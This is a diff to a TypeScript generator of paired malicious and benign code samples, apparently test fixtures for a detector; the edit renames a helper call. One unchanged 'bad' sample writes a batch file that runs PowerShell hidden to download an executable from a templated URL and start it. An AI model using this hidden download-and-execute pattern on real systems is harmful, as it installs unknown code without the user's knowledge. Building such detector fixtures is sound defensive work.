@@ -176,18 +176,18 @@ export const JS_LASTING: Readonly<Record<string, JsDeed>> = {
     },
     twin: (w) => {
       w.files['check.py'] = 'import sys\nprint(sys.version)\n'
-      return `${w.fn('child_process', 'spawn')}(${w.text('python3')}, [${w.fn('path', 'join')}(${w.here()}, ${w.text('check.py')})], { stdio: 'inherit' });`
+      return `${w.fn('child_process', 'spawn')}(${w.command('python3')}, [${w.fn('path', 'join')}(${w.here()}, ${w.command('check.py')})], { stdio: 'inherit' });`
     },
   },
   'bundled-batch': {
     bad: (w, t) => {
       w.files['run.bat'] =
         `@echo off\r\npowershell -w hidden -c "iwr ${urlOf(t, '/u.exe')} -OutFile %TEMP%\\u.exe; start %TEMP%\\u.exe"\r\n`
-      return `${w.fn('child_process', 'exec')}(${w.fn('path', 'join')}(${w.here()}, ${w.text('run.bat')}));`
+      return `${w.fn('child_process', 'exec')}(${w.fn('path', 'join')}(${w.here()}, ${w.command('run.bat')}));`
     },
     twin: (w) => {
       w.files['run.bat'] = '@echo off\r\nnode --version\r\n'
-      return `${w.fn('child_process', 'exec')}(${w.fn('path', 'join')}(${w.here()}, ${w.text('run.bat')}));`
+      return `${w.fn('child_process', 'exec')}(${w.fn('path', 'join')}(${w.here()}, ${w.command('run.bat')}));`
     },
   },
   'memory-of-runner': {
